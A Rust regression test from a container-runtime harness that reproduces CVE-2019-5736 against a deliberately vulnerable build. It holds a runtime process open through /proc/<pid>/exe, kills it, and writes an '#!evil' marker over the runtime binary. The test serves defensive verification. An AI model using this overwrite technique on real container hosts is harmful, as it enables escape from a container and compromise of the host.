//! CVE-2019-5736: the runtime's own file, reached through a process of it inside the container, is overwritten.

use crate::control::{Victim, prove};
use crate::support::{Bundle, wait_until};
use std::fs::{self, File};
use std::path::Path;
use std::process::{Command, Stdio};

/// Holds the file of the runtime's process in the container open, ends the process (the kernel refuses to write to a program
/// that runs), and writes. Root inside a container without a user namespace can do the same.
fn overwrites(victim: Victim, is_exec: bool) -> bool {
    let bundle = Bundle::new("sleep 60", |_| ());
    let program = bundle.path().join("runtime");
    skiff_harness::copy_program(victim.program().unwrap(), &program);
    let original = fs::read(&program).unwrap();
    let pid = if is_exec { enter(victim, &bundle, &program) } else { create(victim, &bundle, &program) };
    let held = File::open(format!("/proc/{pid}/exe")).unwrap();
    let is_inside =
        fs::read_link(format!("/proc/{pid}/ns/mnt")).unwrap() != fs::read_link("/proc/self/ns/mnt").unwrap();
    assert!(is_inside);
    signal(&pid, "KILL");
    bundle.oci(&["delete", "--force", &bundle.id]).ok();
    wait_until("its end", || !Path::new(&format!("/proc/{pid}")).exists());
    use std::os::fd::AsRawFd;
    let written = File::options().write(true).open(format!("/proc/self/fd/{}", held.as_raw_fd()));
    let overwritten = written.and_then(|mut file| std::io::Write::write_all(&mut file, b"#!evil")).is_ok();
    assert_eq!(overwritten, fs::read(&program).unwrap() != original);
    overwritten
}

fn command(victim: Victim, bundle: &Bundle, program: &Path, words: &[&str]) -> Command {
    let mut command = Command::new(program);
    command.arg("--root").arg(bundle.root()).args(words).current_dir(bundle.path());
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    if let Victim::Mutant(mistake) = victim {
        command.env("SKIFF_VULNERABLE", mistake);
    }
    command
}

/// A created container's first process is the runtime, until it is started.
fn create(victim: Victim, bundle: &Bundle, program: &Path) -> String {
    assert!(command(victim, bundle, program, &["create", &bundle.id]).status().unwrap().success());
    bundle.state()["pid"].to_string()
}

/// A process of `exec`, stopped before it becomes the program.
fn enter(victim: Victim, bundle: &Bundle, program: &Path) -> String {
    create(victim, bundle, program);
    bundle.oci(&["start", &bundle.id]).ok();
    let mut exec = command(victim, bundle, program, &["exec", &bundle.id, "true"]);
    let mut exec = exec.env("SKIFF_FAULT", "exec.payload:1=stop").spawn().unwrap();
    let mut inside = String::new();
    let children = format!("/proc/{0}/task/{0}/children", exec.id());
    wait_until("a process inside", || {
        inside = fs::read_to_string(&children).unwrap_or_default().trim().to_owned();
        fs::read_to_string(format!("/proc/{inside}/stat")).is_ok_and(|stat| stat.contains(") T "))
    });
    signal(&exec.id().to_string(), "KILL");
    exec.wait().unwrap();
    inside
}

fn signal(pid: &str, name: &str) {
    Command::new("kill").args(["-s", name, pid]).stderr(Stdio::null()).status().unwrap();
}

#[test]
fn cve_2019_5736_by_the_first_process() {
    prove(|victim| overwrites(victim, false), &[Victim::Mutant("CVE-2019-5736")]);
}

#[test]
fn cve_2019_5736_by_exec() {
    prove(|victim| overwrites(victim, true), &[Victim::Mutant("CVE-2019-5736")]);
}
